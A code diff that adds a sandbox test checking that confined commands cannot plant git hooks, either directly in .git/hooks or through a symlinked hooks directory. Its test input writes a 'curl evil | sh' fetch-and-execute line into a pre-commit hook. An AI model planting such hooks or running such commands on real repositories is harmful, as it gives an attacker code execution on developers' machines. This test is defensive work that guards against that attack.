@@ -410,3 +410,20 @@ def test_python_used_by_the_launcher_is_not_the_venv() -> None:
     launcher = argv[argv.index("--", argv.index(confine.bwrap_path() or "bwrap")) + 1 :]
     assert launcher[0] == os.path.realpath(sys.executable)
     assert launcher[1:4] == ["-E", "-s", "-S"]
+
+
+def test_a_missing_or_symlinked_hooks_directory_cannot_be_planted(ws: Path) -> None:
+    (ws / ".git").mkdir()  # a repository without .git/hooks: it must not be created inside
+    proc = run(
+        "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit",
+        box(ws, network="none"),
+        cwd=str(ws),
+    )
+    assert "Read-only file system" in proc.stderr
+    assert list((ws / ".git" / "hooks").iterdir()) == []
+    other = ws.parent / "repo2"
+    (other / ".git").mkdir(parents=True)
+    (other / "hooks-real").mkdir()
+    (other / ".git" / "hooks").symlink_to(other / "hooks-real")
+    run("echo pwned > .git/hooks/post-checkout", box(other, network="none"), cwd=str(other))
+    assert not (other / "hooks-real" / "post-checkout").exists()
